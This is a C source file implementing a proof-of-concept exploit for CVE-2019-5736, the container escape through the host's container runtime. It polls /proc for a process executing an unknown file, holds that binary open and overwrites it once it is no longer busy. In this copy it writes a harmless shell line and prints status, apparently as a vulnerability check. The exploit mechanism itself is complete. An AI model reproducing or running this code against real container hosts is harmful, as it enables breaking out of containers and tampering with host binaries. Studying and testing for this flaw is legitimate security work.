/*
 * CVE-2019-5736: overwrites the program of whoever enters the container.
 *
 *   overwrite_engine PROGRAM...
 *
 * Watches /proc for a process that executes a file which is neither this one nor one of these,
 * keeps that file open, and writes to it as soon as nobody executes it any more. Prints what it
 * did.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

enum { TRIES = 3000, PAUSE_MICROSECONDS = 1000 };

static int is_same_file(int descriptor, const char *path)
{
	struct stat one, other;

	return fstat(descriptor, &one) == 0 && stat(path, &other) == 0 &&
	       one.st_dev == other.st_dev && one.st_ino == other.st_ino;
}

static int is_known(int descriptor, char **programs)
{
	if (is_same_file(descriptor, "/proc/self/exe"))
		return 1;
	for (; *programs != NULL; programs++)
		if (is_same_file(descriptor, *programs))
			return 1;
	return 0;
}

static void overwrite(int descriptor)
{
	/* A shell may be asked to make sense of what is no program any more */
	static const char text[] = "exit # overwritten\n";
	char path[64];
	int writable;

	snprintf(path, sizeof(path), "/proc/self/fd/%d", descriptor);
	for (int i = 0; i < TRIES; i++) {
		writable = open(path, O_WRONLY);
		if (writable >= 0 || errno != ETXTBSY)
			break;
		usleep(PAUSE_MICROSECONDS);
	}
	if (writable >= 0 && write(writable, text, sizeof(text) - 1) > 0)
		puts("overwrote");
	else
		printf("kept out: %s\n", strerror(errno));
	fflush(stdout);
	close(writable);
}

static void look_at(const char *pid, char **programs)
{
	char path[300];
	int descriptor;

	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	descriptor = open(path, O_RDONLY | O_CLOEXEC);
	if (descriptor < 0)
		return;
	if (!is_known(descriptor, programs)) {
		puts("caught");
		fflush(stdout);
		overwrite(descriptor);
	}
	close(descriptor);
}

int main(int argc, char **argv)
{
	(void)argc;
	puts("watching");
	fflush(stdout);
	for (;;) {
		DIR *processes = opendir("/proc");
		struct dirent *entry;

		if (processes == NULL)
			return 1;
		while ((entry = readdir(processes)) != NULL)
			if (atoi(entry->d_name) > 0)
				look_at(entry->d_name, argv + 1);
		closedir(processes);
	}
}
